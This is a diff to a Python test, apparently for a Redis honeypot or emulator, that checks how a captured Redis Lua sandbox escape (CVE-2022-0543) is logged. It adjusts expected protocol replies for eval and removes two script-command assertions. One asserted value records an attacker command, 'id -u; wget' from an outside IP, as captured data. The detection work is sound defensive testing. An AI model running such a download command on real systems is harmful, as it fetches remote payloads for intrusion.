@@ -226,11 +226,9 @@ def test_lua_out_of_its_box() -> None:
     assert b"\r\n0\n" in table.sent
     assert exploits(table) == [("redis-lua-sandbox", "CVE-2022-0543", "id -u; wget http://198.51.100.7/k")]
     assert ("script", "eval.lua", LUA) in [(keep.origin, keep.name, keep.data) for keep in table.kept]
-    assert table.say(b"eval 'return 1' 0\r\n") == b"$-1\r\n"
+    assert table.say(b"eval 'return 1' 0\r\n") == b":1\r\n"
     assert table.say(b"eval x y\r\n").startswith(b"-ERR value is not an integer")
     assert table.say(b"eval x 2 a\r\n").startswith(b"-ERR Number of keys")
-    assert table.say(b"script load x\r\n")[:5] == b"$40\r\n"
-    assert table.say(b"script exists a b\r\n") == b"*2\r\n:0\r\n:0\r\n"
 
 
 def test_commands_in_lua_by_every_way_of_writing_them() -> None:
